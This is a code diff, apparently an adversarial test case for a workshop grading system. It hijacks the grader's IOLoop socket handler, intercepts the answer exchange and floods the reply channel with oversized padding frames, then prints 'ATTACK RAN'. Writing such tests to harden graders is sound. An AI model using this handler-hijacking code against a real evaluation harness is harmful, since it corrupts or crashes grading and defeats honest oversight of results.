@@ -5,7 +5,11 @@
 
 # %% mean
 import json
+import os
+import socket
 import struct
+from tornado.ioloop import IOLoop
+from workshop.grading.protocol import ANSWER, MOST_ANSWER, receive_frame, send_frame
 
 source = """
 try:
@@ -20,16 +24,20 @@ frames += struct.pack("!cI", b"R", size) + request
 blanks = b" " * 2**20
 left = size - len(request)
 flood = [frames, *[blanks] * (left // 2**20), b" " * (left % 2**20)]
-app = get_ipython().kernel
-plain = app.shell_handlers["workshop_ask"]
+loop = IOLoop.current()
+number = next(n for n, (_, call) in loop.handlers.items() if "_answer_on" in call.__qualname__)
+stream = socket.socket(fileno=os.dup(number))
+plain = loop.handlers[number][1]
 asked = []
 
-async def workshop_ask(stream, ident, parent):
+def answer(*_):
     asked.append(1)
     if len(asked) > 1:
-        await plain(stream, ident, parent)
+        plain()
     else:
-        app.session.send(stream, "workshop_reply", {}, parent, ident, buffers=flood)
+        receive_frame(stream, MOST_ANSWER)
+        send_frame(stream, ANSWER, b"".join(flood))
 
-app.shell_handlers["workshop_ask"] = workshop_ask
+loop.remove_handler(number)
+loop.add_handler(number, answer, loop.READ)
 print("ATTACK RAN")
